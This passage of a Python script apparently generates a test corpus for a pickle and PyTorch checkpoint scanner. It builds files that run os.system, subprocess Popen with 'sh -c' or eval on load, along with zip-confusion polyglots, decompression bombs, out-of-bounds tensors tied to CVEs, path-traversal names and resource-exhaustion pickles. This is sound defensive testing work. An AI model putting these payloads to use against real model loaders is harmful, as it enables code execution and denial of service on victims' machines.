        "unsafe", B, "payload beyond the first 4 KiB of an extra pickle record", "ModelAudit PR #1654 review")
    add("no_data_pkl_only_payload.pt", with_recs([R("archive/payload.pkl", SYSTEM), R("archive/version", b"3\n")]),
        "unsafe", B, "archive without data.pkl whose only pickle is malicious", "docs/policy.md (every pickle examined)")

    # Duplicate names.
    dp = [r for r in base if r.name.endswith("/data.pkl")][0]
    rest = [Rec(r.name, r.data) for r in base if r is not dp]
    add("dup_data_pkl_first_evil.pt", with_recs([R(dp.name, evil), R(dp.name, orig)] + rest), "unsafe", B,
        "duplicate data.pkl, the first one malicious", "google/saferpickle PR #42; ModelAudit #1408")
    add("dup_data_pkl_last_evil.pt", with_recs([R(dp.name, orig)] + rest + [R(dp.name, evil)]), "unsafe", B,
        "duplicate data.pkl, the last one malicious", "google/saferpickle PR #42")
    add("dup_data_pkl_benign.pt", with_recs([R(dp.name, orig), R(dp.name, orig)] + rest), "malformed", "zip_duplicate_name",
        "duplicate data.pkl, both benign and identical", "docs/policy.md Containers")
    add("case_dup_evil.pt", with_recs([R(dp.name, orig)] + rest + [R("archive/DATA.PKL", evil)]), "unsafe", B,
        "case-only duplicate archive/DATA.PKL holds the payload (miniz lookup may be case-insensitive)",
        "torch inline_container.cc (miniz) (miniz locate_file); peers §2c")
    add("case_dup_benign.pt", with_recs([R(dp.name, orig)] + rest + [R("archive/Data.pkl", orig)]), "malformed",
        "zip_duplicate_name", "case-only duplicate of data.pkl, benign", "docs/policy.md Containers")
    add("dup_storage_record.pt", with_recs([Rec(r.name, r.data) for r in base]
                                           + [R([r.name for r in base if "/data/0" in r.name][0], b"\x00" * 24)]),
        "malformed", "zip_duplicate_name", "duplicate data/0 storage record", "docs/policy.md Containers")

    # Two top folders.
    add("two_roots_second_evil.pt", with_recs([Rec(r.name, r.data) for r in base] + [R("zzz/data.pkl", evil), R("zzz/version", b"3\n")]),
        "unsafe", B, "second top folder with a malicious data.pkl", "torch inline_container.cc (miniz); gopickle basename collision")
    add("two_roots_first_evil.pt", with_recs([R("aaa/data.pkl", evil), R("aaa/version", b"3\n")] + [Rec(r.name, r.data) for r in base]),
        "unsafe", B, "first top folder (the one torch picks) malicious, second benign", "torch inline_container.cc (miniz)")
    add("two_roots_benign.pt", with_recs([Rec(r.name, r.data) for r in base] + [R("other/data.pkl", orig), R("other/version", b"3\n")]),
        "malformed", "zip_multiple_roots", "two top folders, both benign", "docs/policy.md Containers")

    # CRC, local/central disagreement, flags.
    add("bad_crc_evil.pt", with_recs([R(r.name, evil if r is dp else r.data, crc=(0xDEADBEEF if r is dp else None)) for r in base]),
        "unsafe", B, "malicious data.pkl with a wrong CRC (torch never checks CRCs)", "CVE-2025-10156; picklescan malicious1_crc.zip")
    add("bad_crc_benign.pt", with_recs([R(r.name, r.data, crc=(0xDEADBEEF if r is dp else None)) for r in base]),
        "malformed", "zip_crc_mismatch", "benign data.pkl with a wrong CRC", "CVE-2025-10156; docs/policy.md")
    add("local_name_mismatch_benign.pt", with_recs([R(r.name, r.data, local_name=("archive/data.pkx" if r is dp else r.name)) for r in base]),
        "malformed", "zip_local_header", "local header name differs from the central directory", "CVE-2025-1944 (GHSA-7q5r-7gvp-wc82)")
    add("local_name_mismatch_evil.pt", with_recs([R(r.name, evil if r is dp else r.data, local_name=("archive/zzzz.pkl" if r is dp else r.name)) for r in base]),
        "unsafe", B, "local/central name mismatch on a malicious data.pkl", "CVE-2025-1944")
    add("encrypted_flag_benign.pt", with_recs([R(r.name, r.data, local_flags=(0x0809 if r is dp else 0x0808), central_flags=(0x0809 if r is dp else 0x0808)) for r in base]),
        "malformed", "zip_unsupported_flags", "encryption flag bit on data.pkl (data is plain)", "CVE-2025-1945 (GHSA-w8jq-xcqf-f792)")
    add("encrypted_flag_local_evil.pt", with_recs([R(r.name, evil if r is dp else r.data, local_flags=(0x0809 if r is dp else 0x0808)) for r in base]),
        "unsafe", B, "encryption flag in the local header only, malicious data.pkl", "CVE-2025-1945")
    add("method_mismatch_benign.pt", with_recs([R(r.name, r.data, method_central=(8 if r is dp else 0)) for r in base]),
        "malformed", "zip_local_header", "central says deflate, local says stored", "docs/policy.md Containers",
        alt=[{"verdict": "malformed", "rule": "zip_inflate_failed"}, {"verdict": "malformed", "rule": "zip_parser_disagree"},
             {"verdict": "malformed", "rule": "zip_libzip_rejected"}])
    add("unsupported_method.pt", with_recs([R(r.name, r.data, method_central=(12 if r is dp else 0), method_local=(12 if r is dp else 0)) for r in base]),
        "malformed", "zip_unsupported_method", "data.pkl with compression method 12 (bzip2) in the directory",
        "docs/policy.md Containers", alt=[{"verdict": "malformed", "rule": "zip_local_header"}])

    # Fail-open iteration: a corrupt member before data.pkl (modelscan#354).
    bad = Rec("archive/aaa_corrupt", b"x" * 64, method=8)
    recs = [bad] + [R(r.name, evil if r is dp else r.data) for r in base]
    z = bytearray(with_recs(recs))
    n, e = struct.unpack_from("<HH", z, 26)           # first local header is at offset 0
    z[30 + n + e:30 + n + e + 4] = b"\xff\xff\xff\xff"  # deflate block type 3 (invalid)
    add("corrupt_member_before_evil.pt", bytes(z), "unsafe", B,
        "a corrupt deflated member placed before a malicious data.pkl", "protectai/modelscan#354 (fail-open)")

    # Prepended / appended data (polyglots).
    add("appended_junk.pt", with_recs(base, append=b"trailing bytes\n" * 4), "malformed", "zip_trailing_data",
        "bytes appended after the EOCD", "peers §2c polyglots")
    add("appended_pickle.pt", with_recs(base, append=SYSTEM), "unsafe", B,
        "malicious pickle appended after the zip (polyglot)", "peers §2c polyglots; fickling polyglot")
    add("prepended_pickle.pt", with_recs(base, prepend=SYSTEM), "unsafe", B,
        "malicious pickle prepended to a zip: torch.load takes the legacy pickle path", "torch serialization.py load(); peers §2c polyglots")
    add("prepended_junk.pt", with_recs(base, prepend=b"\x00" * 100), "malformed", "not_a_checkpoint",
        "100 bytes prepended to a valid zip (zip readers still find the EOCD)", "torch serialization.py load() (torch needs PK at offset 0)",
        alt=[{"verdict": "malformed", "rule": "zip_bad_eocd"}, {"verdict": "malformed", "rule": "zip_out_of_bounds"}])

    # Zip64 lies.
    add("zip64_cd_offset_lie.pt", with_recs(base, zip64_eocd_patch={"cd_offset": 10**12}), "malformed", "zip_bad_eocd",
        "zip64 EOCD central-directory offset points past the file", "peers §2c zip64 lies",
        alt=[{"verdict": "malformed", "rule": "zip_libzip_rejected"}, {"verdict": "malformed", "rule": "zip_no_eocd"}])
    add("zip64_entry_count_lie.pt", with_recs(base, zip64_eocd_patch={"entries": 3, "entries_total": 3}), "malformed", "zip_bad_eocd",
        "zip64 EOCD entry count disagrees with the classic EOCD and the directory", "peers §2c zip64 lies",
        alt=[{"verdict": "malformed", "rule": "zip_libzip_rejected"}])
    st = [r for r in base if "/data/0" in r.name][0]
    add("zip64_size_lie.pt", with_recs([R(r.name, r.data, usize=(2**40 if r is st else None), csize=(2**40 if r is st else None)) for r in base]),
        "malformed", "zip_out_of_bounds", "zip64 extra declares a 1 TiB stored record in a tiny file", "peers §2c zip64 lies",
        alt=[{"verdict": "malformed", "rule": "zip_libzip_rejected"}, {"verdict": "malformed", "rule": "zip_bad_central_entry"},
             {"verdict": "malformed", "rule": "storage_size_mismatch"}, {"verdict": "malformed", "rule": "zip_local_header"}])
    add("offset_out_of_bounds.pt", with_recs([R(r.name, r.data, offset=(10**9 if r is st else None)) for r in base]),
        "malformed", "zip_out_of_bounds", "local header offset beyond the end of the file", "docs/policy.md Containers",
        alt=[{"verdict": "malformed", "rule": "zip_libzip_rejected"}, {"verdict": "malformed", "rule": "zip_local_header"},
             {"verdict": "malformed", "rule": "zip_bad_central_entry"}])
    first_off = 0
    add("overlapping_records.pt", with_recs([R(r.name, r.data, offset=(first_off if r.name.endswith("/version") else None)) for r in base]),
        "malformed", "zip_overlap", "two central entries share one local header", "docs/policy.md Containers",
        alt=[{"verdict": "malformed", "rule": "zip_local_header"}, {"verdict": "malformed", "rule": "zip_libzip_rejected"}])
    for fname, badname, tech in (("name_dotdot.pt", "archive/../evil.pkl", "'..' component"),
                                 ("name_backslash.pt", "archive\\data\\1", "backslash in a name"),
                                 ("name_absolute.pt", "/archive/extra", "absolute path"),
                                 ("name_nul.pt", "archive/ex\x00tra", "NUL in a name")):
        add(fname, with_recs([Rec(r.name, r.data) for r in base] + [R(badname, b"x")]), "malformed", "zip_bad_name",
            f"member name with {tech}", "peers §2c path traversal; docs/policy.md",
            alt=[{"verdict": "malformed", "rule": "zip_multiple_roots"}, {"verdict": "malformed", "rule": "zip_libzip_rejected"}])

    # Deflate bombs (small files, huge inflation; no big bytes on disk).
    zeros = b"\x00" * (16 << 20)  # 16 MiB of zeros deflate to ~16 KiB (ratio ~1000)
    pkl = tensor_pickle(4 << 20, [4 << 20], [1])
    recs = [R("archive/data.pkl", pkl), R("archive/byteorder", b"little"), Rec("archive/data/0", zeros, method=8),
            R("archive/version", b"3\n")]
    add("deflate_bomb_storage.pt", with_recs(recs), "malformed", "zip_inflate_limit",
        "data/0 deflated 16 MiB -> 16 KiB (ratio ~1000 > 250)", "safetensors attacks/torch_dos_create.py; peers §2c")
    lie = Rec("archive/data/0", b"\x00" * (1 << 20), method=8, usize=40 * 10**9, zip64_extra=True)
    recs = [R("archive/data.pkl", tensor_pickle(10 * 10**9, [10 * 10**9], [1])), R("archive/byteorder", b"little"), lie,
            R("archive/version", b"3\n")]
    add("deflate_bomb_40gb_declared.pt", with_recs(recs), "malformed", "zip_inflate_limit",
        "data/0 declares 40 GB (zip64) from 1 KiB of deflate", "safetensors attacks/torch_dos_create.py",
        alt=[{"verdict": "malformed", "rule": "zip_inflate_failed"}, {"verdict": "malformed", "rule": "zip_bad_central_entry"},
             {"verdict": "malformed", "rule": "limit_exceeded"}])
    bomb_pkl = PROTO2 + b"X" + u32(16 << 20) + b"a" * (16 << 20) + STOP
    recs = [Rec("archive/data.pkl", bomb_pkl, method=8), R("archive/version", b"3\n")]
    add("deflate_bomb_data_pkl.pt", with_recs(recs), "malformed", "zip_inflate_limit",
        "data.pkl itself deflated 16 MiB -> 16 KiB", "peers §2c compression bombs")

    # CVE-2026-24747 and tensor geometry (torch _utils.py rebuild checks / §3.9).
    f4 = lambda n: struct.pack(f"<{n}f", *range(n))  # noqa: E731
    add("storage_numel_gt_record.pt", tensor_zip(tensor_pickle(1 << 20, [1 << 20], [1]), f4(4)), "malformed", "storage_size_mismatch",
        "persistent id declares 1 Mi floats, record holds 4", "CVE-2026-24747 (GHSA-63cw-57p8-fm3p) part 2")
    add("storage_numel_lt_record.pt", tensor_zip(tensor_pickle(2, [2], [1]), f4(4)), "malformed", "storage_size_mismatch",
        "persistent id declares 2 floats, record holds 4", "torch inline_container.cc (miniz) (2.10+ record size check)")
    add("tensor_view_oob.pt", tensor_zip(tensor_pickle(4, [10], [1]), f4(4)), "malformed", "tensor_out_of_bounds",
        "view of 10 elements on a 4-element storage", "pytorch/pytorch#183381; torch _utils.py rebuild checks")
    add("tensor_offset_oob.pt", tensor_zip(tensor_pickle(4, [2], [1], offset=3), f4(4)), "malformed", "tensor_out_of_bounds",
        "storage offset 3 + 2 elements on a 4-element storage", "pytorch/pytorch#183381")
    add("tensor_stride_overflow.pt", tensor_zip(tensor_pickle(4, [4, 2], [2**62, 1]), f4(4)), "malformed", "tensor_out_of_bounds",
        "stride 2^62 (extent overflows int64)", "pytorch/pytorch#181310 / #183381",
        alt=[{"verdict": "malformed", "rule": "tensor_bad_geometry"}])
    add("tensor_negative_stride.pt", tensor_zip(tensor_pickle(4, [2], [-1], offset=1), f4(4)), "malformed", "tensor_bad_geometry",
        "negative stride", "torch _utils.py rebuild checks")
    add("tensor_numel_overflow.pt", tensor_zip(tensor_pickle(2**62, [2**31, 2**31], [2**31, 1]), f4(4)), "malformed", "storage_size_mismatch",
        "numel x itemsize overflows (2^62 floats)", "pytorch/pytorch#181310",
        alt=[{"verdict": "malformed", "rule": "tensor_bad_geometry"}, {"verdict": "malformed", "rule": "limit_exceeded"},
             {"verdict": "malformed", "rule": "bad_persistent_id"}])
    setitem_tensor = tensor_pickle(4, [4], [1], extra=integer(100) + integer(7) + SETITEM)
    add("setitem_on_tensor.pt", tensor_zip(setitem_tensor, f4(4)), "unsafe", "pickle_setitem_refused",
        "SETITEM on a rebuilt tensor (tensor.__setitem__ with an out-of-range index)", "CVE-2026-24747 part 1")
    setitems_tensor = tensor_pickle(4, [4], [1], extra=MARK + integer(10**6) + integer(1) + SETITEMS)
    add("setitems_on_tensor.pt", tensor_zip(setitems_tensor, f4(4)), "unsafe", "pickle_setitem_refused",
        "SETITEMS on a rebuilt tensor", "CVE-2026-24747 part 1")
    add("storage_two_dtypes.pt", tensor_zip(PROTO2 + EMPTY_LIST + MARK + tensor_expr(4, [4], [1])
                                            + tensor_expr(2, [2], [1], storage="DoubleStorage") + APPENDS + STOP, f4(4)), "malformed", "storage_dtype_conflict",
        "one storage key used as float32[4] and float64[2]", "torch serialization.py persistent_id",
        alt=[{"verdict": "malformed", "rule": "storage_size_mismatch"}])

    # Quantized and sparse tensors whose geometry lies (torch-made, then patched / saved unchecked).
    q = torch.quantize_per_tensor(torch.ones(4), 0.1, 0, torch.quint8)
    recs = records_of(torch_bytes({"q": q}))
    qp = data_pkl(recs)
    assert qp.count(b"K\x01\x85q\x09") == 1
    add("qtensor_stride_oob.pt", rezip(replace(recs, "/data.pkl", qp.replace(b"K\x01\x85q\x09", b"M\xe8\x03\x85q\x09"))),
        "malformed", "tensor_out_of_bounds", "quantized tensor with stride 1000 on a 4-byte storage",
        "GHSA-jg6j-8w4h-2pg2 (pytorch/pytorch#184652)",
        alt=[{"verdict": "malformed", "rule": "unsupported_feature"}])
    sp = torch.sparse_coo_tensor(torch.tensor([[0, 1, 1000]]), torch.tensor([1.0, 2.0, 3.0]), (4,), check_invariants=False)
    add("sparse_index_oob.pt", torch_bytes({"s": sp}), "malformed", "sparse_invalid",
        "sparse COO tensor with index 1000 in a size-4 dimension", "CVE-2025-62164; pytorch/pytorch#184750")
    qc = torch.quantize_per_channel(torch.ones(2, 3), torch.tensor([0.1, 0.2]), torch.tensor([0, 0]), 0, torch.quint8)
    recs = records_of(torch_bytes({"q": qc}))
    qp = data_pkl(recs)
    assert qp.count(b"q\x1cK\x00t") == 1
    bad_axis = rezip(replace(recs, "/data.pkl", qp.replace(b"q\x1cK\x00t", b"q\x1cK\x05t")))
    try:
        torch_loads_weights_only(bad_axis)
        raise AssertionError("torch accepted a per-channel axis of 5")
    except AssertionError:
        raise
    except Exception:
        pass
    add("qtensor_axis_oob.pt", bad_axis, "malformed", "quantizer_invalid",
        "per-channel quantized tensor with axis 5 on a 2-D tensor", "torch's published weights_only fixes (qtensor axis/length checks)")

    # TorchScript, tar, legacy, preview.
    torch.manual_seed(3)
    ts = torch.jit.script(torch.nn.Linear(2, 2))
    buf = io.BytesIO()
    torch.jit.save(ts, buf)
    add("torchscript_module.pt", buf.getvalue(), "unsafe", "torchscript_archive",
        "torch.jit.save of a tiny scripted module", "CVE-2025-32434 (GHSA-53q9-r3pm-6pq6)")
    add("constants_pkl_only.pt", with_recs([Rec(r.name, r.data) for r in base] + [R("archive/constants.pkl", pickle.dumps((), protocol=2))]),
        "unsafe", "torchscript_archive", "a plain state_dict plus a constants.pkl record (routes to torch.jit.load <2.6)",
        "CVE-2025-32434")

    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in (("sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                                        "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)),
                           ("pickle", pickle.dumps([1, 2], protocol=2)),
                           ("tensors", struct.pack("<q", 0)),
                           ("storages", struct.pack("<q", 0))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            t.addfile(info, io.BytesIO(data))
    add("legacy_tar.pt", tbuf.getvalue(), "unsafe", "tar_format", "pre-0.1.10 tar checkpoint",
        "CVE-2025-32434 (tar path, PR #145020)")
    add("preview_pytorch1.pt", b"PYTORCH1" + b"\x00" * 56, "unsafe", "preview_archive", "PYTORCH1 preview archive",
        "torch inline_container.cc (miniz)")
    add("gzip_wrapped_pickle.pt", gzip.compress(SYSTEM, mtime=0), "malformed", "not_a_checkpoint",
        "gzip-wrapped malicious pickle (.pt.gz unwrapped by user code)", "modelscan PR #345; picklescan PR #68")

    # Legacy stacked pickles (0.1.10-1.5): every one of the five is a pickle.
    legacy = torch_bytes(sd, _use_new_zipfile_serialization=False)
    parts, pos = [], 0
    for _ in range(5):
        stream = io.BytesIO(legacy[pos:])
        end = None
        for op, arg, p in pickletools.genops(stream):
            if op.name == "STOP":
                end = p + 1
                break
        parts.append(legacy[pos:pos + end])
        pos += end
    tail = legacy[pos:]
    assert b"".join(parts) + tail == legacy
    # Storage keys are str(pointer) and the key list is sorted(): rename the keys in order of first
    # use in the main pickle and rewrite the key list and the data blocks in that order, so that
    # the file is reproducible. (All storages here are float32: 8-byte count + 4 bytes each.)
    keys = [arg for op, arg, _ in pickletools.genops(parts[4]) if op.name == "BINUNICODE"]
    blocks, at = {}, 0
    for k in keys:
        (count,) = struct.unpack_from("<q", tail, at)
        blocks[k] = tail[at:at + 8 + 4 * count]
        at += 8 + 4 * count
    assert at == len(tail)
    used = [arg for op, arg, _ in pickletools.genops(parts[3]) if op.name == "BINUNICODE" and arg in blocks]
    order = list(dict.fromkeys(used))
    assert sorted(order) == sorted(keys)
    new = {k: str(10 ** 13 + n) for n, k in enumerate(order)}
    main = parts[3]
    for k in order:
        main = main.replace(uni(k), uni(new[k]))
    parts[3] = main
    parts[4] = pickle.dumps([new[k] for k in order], protocol=2)
    tail = b"".join(blocks[k] for k in order)
    legacy = b"".join(parts) + tail
    torch_loads_weights_only(legacy)
    add("legacy_benign.pt", legacy, "safe", None, "legacy 0.1.10-1.5 stacked-pickle file made by torch (benign)",
        "torch serialization.py legacy_load; docs/policy.md Containers (legacy read)")
    add("legacy_main_evil.pt", b"".join(parts[:3]) + inject(parts[3], call("os", "system", CMD)) + parts[4] + tail, "unsafe", B,
        "legacy file with a payload in the main pickle", "torch serialization.py legacy_load")
    add("legacy_magic_eval.pt", pk(call("builtins", "eval", "0x1950a86a20f9469cfc6c")) + b"".join(parts[1:]) + tail, "unsafe", G,
        "legacy magic number computed by eval instead of a literal", "picklescan pytorch_magic_bypass.pt; peers §2b")
    add("legacy_sysinfo_evil.pt", b"".join(parts[:2]) + inject(parts[2], call("posix", "system", CMD)) + b"".join(parts[3:]) + tail,
        "unsafe", B, "legacy file with a payload in the sys_info pickle", "docs/policy.md (each pickle of a legacy file)")
    add("legacy_keys_evil.pt", b"".join(parts[:4]) + inject(parts[4], call("subprocess", "Popen", ["sh", "-c", CMD])) + tail,
        "unsafe", G, "legacy file with a payload in the storage-keys pickle", "docs/policy.md (each pickle of a legacy file)")


def gen_resources():
    """peers.md §2d: resource exhaustion; truncated and non-checkpoint input."""
    L = "limit_exceeded"
    # Memo billion laughs: x_{k+1} = [x_k] * 10 through BINGET, 9 levels = 10^9 leaves.
    body = EMPTY_LIST + put(0)
    for k in range(1, 10):
        body += POP + EMPTY_LIST + MARK + get(k - 1) * 10 + APPENDS + put(k)
    add("memo_billion_laughs.pkl", pk(body), "malformed", L, "memo billion laughs: 10 BINGETs per level, 9 levels",
        "peers §2d", alt=[{"verdict": "safe", "rule": None}])
    body = EMPTY_TUPLE + put(0)
    for k in range(1, 64):
        body += POP + get(k - 1) + get(k - 1) + b"\x86" + put(k)  # TUPLE2 of the previous one twice
    add("memo_doubling_tuples.pkl", pk(body), "malformed", L, "BINGET doubling of tuples: 2^63 logical leaves",
        "peers §2d", alt=[{"verdict": "safe", "rule": None}])
    # Dict keys from shared tuples: t_{k+1} = (t_k, t_k). One such key hashes in linear time
    # (hashes are cached per node); two equal keys built apart compare in 2^64 steps (CPython
    # hangs), as does ((x,)*n,)*m against an equal copy in n*m steps.
    def chain(base, n):
        out = EMPTY_TUPLE + put(base)
        for k in range(n):
            out += POP + get(base + k) + get(base + k) + b"\x86" + put(base + k + 1)
        return out
    add("shared_tuple_dict_key.pkl", pk(EMPTY_DICT + chain(0, 64) + integer(1) + SETITEM), "malformed", L,
        "dict key of shared tuples, 2^64 paths: loads (hashed once per node), but written out it expands past the "
        "walk budget, so a scan says malformed as inspect --json refuses it", "peers §2d; policy Output")
    add("equal_shared_tuple_keys.pkl", pk(EMPTY_DICT + chain(0, 64) + integer(1) + SETITEM + chain(100, 64) + integer(2) + SETITEM),
        "malformed", L, "two equal dict keys of shared tuples built apart: 2^64 comparisons (CPython hangs)", "peers §2d")
    row = MARK + get(0) * 3000 + b"t"
    add("identity_quadratic_keys.pkl",
        pk(EMPTY_DICT + NONE + put(0) + POP + row + put(1) + POP + MARK + get(1) * 3000 + b"t" + integer(1) + SETITEM
           + row + put(2) + POP + MARK + get(2) * 3000 + b"t" + integer(2) + SETITEM),
        "malformed", L, "dict keys ((None,)*3000,)*3000 twice: 9e6 identical-item comparisons from 24 KB", "peers §2d")
    # Equal big ints (or long strings) built apart, used as one key 20,000 times: each SETITEM
    # compares them in full. Decimal conversion per comparison made this 93 s; comparisons are
    # byte compares now, charged to the key budget by their size.
    big = b"\x8b" + i32(4096) + b"\xff" * 4095 + b"\x7f"
    add("equal_bigint_keys_repeated.pkl", pk(EMPTY_DICT + big + put(0) + NONE + SETITEM + big + put(1) + NONE + SETITEM
                                            + (get(1) + NONE + SETITEM) * 20000), "malformed", L,
        "two equal 4096-byte LONG4 ints as one dict key, 20,000 SETITEMs (88 KB)", "redteam-b 6")
    text = uni("k" * 4096)
    add("equal_long_str_keys_repeated.pkl", pk(EMPTY_DICT + text + put(0) + NONE + SETITEM + text + put(1) + NONE + SETITEM
                                               + (get(1) + NONE + SETITEM) * 20000), "malformed", L,
        "two equal 4 KiB strings as one dict key, 20,000 SETITEMs", "redteam-b 6 (same class)")
    # An OrderedDict whose attribute name is 100 KB, shared 1,400 times: 140 MB of names when
    # written out, past max_output_bytes (the expansion estimate counts attribute names).
    od = glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + EMPTY_DICT + MARK + uni("A" * 100000) + NONE + b"u" + BUILD
    add("attr_name_fanout.pkl", pk(EMPTY_LIST + od + put(0) + APPEND + MARK + get(0) * 1400 + APPENDS), "malformed", L,
        "a 100 KB attribute name shared 1,400 times (text inspect printed it whole each time)", "redteam-b 8")
    add("mark_flood_1e6.pkl", PROTO2 + MARK * 1_000_000 + STOP, "malformed", L, "10^6 nested MARKs",
        "peers §2d deep nesting")
    add("binunicode_4gib.pkl", PROTO2 + b"X" + u32(0xFFFFFFFF) + b"abc" + STOP, "malformed", L,
        "BINUNICODE declaring 4 GiB in a tiny file", "peers §2d huge declared lengths",
        alt=[{"verdict": "malformed", "rule": "pickle_truncated"}])
    add("binunicode8_huge.pkl", b"\x80\x04\x8d" + u64(2**62) + b"abc" + STOP, "malformed", L,
        "BINUNICODE8 declaring 2^62 bytes", "peers §2d", alt=[{"verdict": "malformed", "rule": "pickle_truncated"}])
    add("binbytes8_huge.pkl", b"\x80\x04\x8e" + u64(2**63 - 1) + b"abc" + STOP, "malformed", L,
        "BINBYTES8 declaring 2^63-1 bytes", "peers §2d", alt=[{"verdict": "malformed", "rule": "pickle_truncated"}])
    add("long4_huge_length.pkl", PROTO2 + b"\x8b" + i32(2**31 - 1) + b"\x01" * 8 + STOP, "malformed", L,
        "LONG4 declaring 2 GiB of digits", "peers §2d enormous ints", alt=[{"verdict": "malformed", "rule": "pickle_truncated"}])
    add("long4_5000_bytes.pkl", PROTO2 + b"\x8b" + i32(5000) + b"\x7f" * 5000 + STOP, "malformed", L,
        "LONG4 with 5000 real bytes (> max_int_bytes 4096)", "peers §2d enormous ints")
    add("text_int_5000_digits.pkl", b"I" + b"9" * 5000 + b"\n.", "malformed", L,
        "text INT with 5000 digits (CPython's 4300-digit limit)", "peers §2d; CPython int max_str_digits",
        alt=[{"verdict": "malformed", "rule": "pickle_bad_text"}])
    add("deep_lists_20000.pkl", PROTO2 + EMPTY_LIST * 20000 + APPEND * 19999 + STOP, "malformed", L,
        "lists nested 20,000 deep", "peers §2d deep nesting (fickling #196)")
    add("deep_tuples_5000.pkl", PROTO2 + MARK * 5000 + EMPTY_TUPLE + TUPLE * 5000 + STOP, "malformed", L,
        "tuples nested 5,000 deep through MARK/TUPLE", "peers §2d deep nesting")
    add("deep_dicts_5000.pkl", PROTO2 + (EMPTY_DICT + integer(1)) * 5000 + NONE + SETITEM * 5000 + STOP, "malformed", L,
        "dicts nested 5,000 deep", "peers §2d deep nesting")
    add("self_cycle_list.pkl", PROTO2 + EMPTY_LIST + put(0) + get(0) + APPEND + STOP, "malformed", "pickle_cycle",
        "a list that contains itself (through the memo)", "peers §2d cyclic references")
    add("dict_cycle.pkl", PROTO2 + EMPTY_DICT + put(0) + uni("self") + EMPTY_LIST + get(0) + APPEND + SETITEM + STOP,
        "malformed", "pickle_cycle", "dict -> list -> same dict", "peers §2d cyclic references")
    # Truncated and non-checkpoint input.
    tb = torch_bytes(base_state_dict(4))
    add("truncated_zip_half.pt", tb[: len(tb) // 2], "malformed", "zip_no_eocd", "torch zip cut in half",
        "peers §2d truncated data", alt=[{"verdict": "malformed", "rule": "zip_libzip_rejected"},
                                          {"verdict": "malformed", "rule": "zip_bad_eocd"}])
    add("truncated_zip_eocd.pt", tb[:-7], "malformed", "zip_no_eocd", "torch zip with its last 7 bytes cut",
        "peers §2d truncated data", alt=[{"verdict": "malformed", "rule": "zip_libzip_rejected"},
                                          {"verdict": "malformed", "rule": "zip_bad_eocd"}])
    pkl = pickle.dumps({"epoch": 3, "names": ["a", "b", "c"], "lr": 0.5}, protocol=2)
    add("truncated_pickle.pkl", pkl[: len(pkl) - 9], "malformed", "pickle_truncated", "benign pickle without its last 9 bytes",
        "peers §2d truncated data")
    add("truncated_mid_opcode.pkl", PROTO2 + b"X" + u32(10) + b"abc", "malformed", "pickle_truncated",
        "stream ends inside a BINUNICODE operand", "peers §2d", alt=[{"verdict": "malformed", "rule": L}])
    add("empty_file.pt", b"", "malformed", "not_a_checkpoint", "empty file", "peers §2d non-checkpoint input")
    add("png_as_pt.pt", b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0) + b"\x00" * 4,
        "malformed", "not_a_checkpoint", "a PNG header named .pt", "modelscan PR #30")
    add("text_file.pth", b"this is a text file, not a checkpoint\n" * 8, "malformed", "not_a_checkpoint",
        "plain text named .pth", "pytorch/pytorch#120167",
        alt=[{"verdict": "malformed", "rule": "pickle_no_mark"}])  # text is a (broken) protocol-0 pickle
    add("only_proto.pkl", PROTO2, "malformed", "pickle_truncated", "PROTO 2 and nothing else", "peers §2d",
        alt=[{"verdict": "malformed", "rule": "not_a_checkpoint"}])
    # CPython's two unpicklers and torch's weights_only all return 1 here: a warning, not an error.
    add("pending_mark_at_stop.pkl", PROTO2 + MARK + integer(1) + STOP, "safe", None,
        "STOP with an unclosed MARK", "docs/format.md", warnings=["stack_not_empty_at_stop"],
        alt=[{"verdict": "malformed", "rule": "pickle_pending_mark"}])


def gen_output():
    """policy "Output": names that drive a terminal (ESC sequences, C1 CSI, bidi overrides) or are
    not UTF-8. The verdict must not depend on them; tests/cli/check_output_escaping.py checks that
    every printer escapes them."""
    G = "pickle_global_refused"
    add("escape_global.pkl", pk(call("os\x1b[2J\u009b", "sys\u202etem", CMD)), "unsafe", G,
        "GLOBAL whose module and name hold ESC[2J, a C1 CSI and a right-to-left override", "policy Output",
        subject="os\x1b[2J")  # a substring: expected.json keeps no raw C1 or bidi control
    add("escape_global_bytes.pkl", PROTO2 + b"cos\xff\x1b\nsys\xc0\xaftem\n" + enc((CMD,)) + REDUCE + STOP, "unsafe", G,
        "GLOBAL operands that are not UTF-8 (stray byte, overlong '/')", "policy Output")
    add("escape_keys.pkl", pk(enc({"k\x1b[2J": 1, "c1\u009b": 2.0, "rlo\u202e": "v\x1b]0;t\x07", "sur\ud800": None})),
        "safe", None, "dict keys and values with ESC sequences, C1, RLO and a lone surrogate", "policy Output")


def gen_benign():
    """Files that look suspicious but are fine: expected safe (warnings allowed)."""
    def save(name, obj, tech, source="benign", check=True, warnings=None, **kw):
        data = torch_bytes(obj, **kw)
        if check:
            torch_loads_weights_only(data)
        else:  # weights_only refuses protocol 4/5 opcodes: check the globals statically instead
            for p in zip_pickles(data):
                bad = [g for g in static_globals(p) if not allowed_global(g)]
                assert not bad, (name, bad)
        add(name, data, "safe", None, tech, source, warnings=warnings)

    torch.manual_seed(10)
    sd = base_state_dict(10)
    save("benign_proto4.pt", sd, "torch.save with pickle_protocol=4 (FRAME/MEMOIZE/STACK_GLOBAL)", check=False,
         warnings=["torch_refuses_opcode"], pickle_protocol=4)
    save("benign_proto5.pt", sd, "torch.save with pickle_protocol=5", check=False, warnings=["torch_refuses_opcode"], pickle_protocol=5)
    nested = torch.ones(2)
    for _ in range(200):
        nested = [nested]
    save("benign_deep_200.pt", {"deep": nested}, "lists nested 200 deep around a tensor")
    m = torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.BatchNorm1d(2))
    save("benign_module_prefix.pth", OrderedDict(("module." + k, v) for k, v in m.state_dict().items()),
         "state_dict with 'module.' keys (DataParallel)")
    save("benign_metadata.pth", torch.nn.Sequential(torch.nn.Conv1d(1, 2, 3), torch.nn.LayerNorm(2)).state_dict(),
         "OrderedDict state_dict with _metadata (BUILD on OrderedDict)")
    save("benign_bigints.pt", {"step": 2**62, "neg": -2**63, "huge": 2**2000, "t": torch.zeros(1)},
         "big-int values (LONG1 up to 251 bytes)")
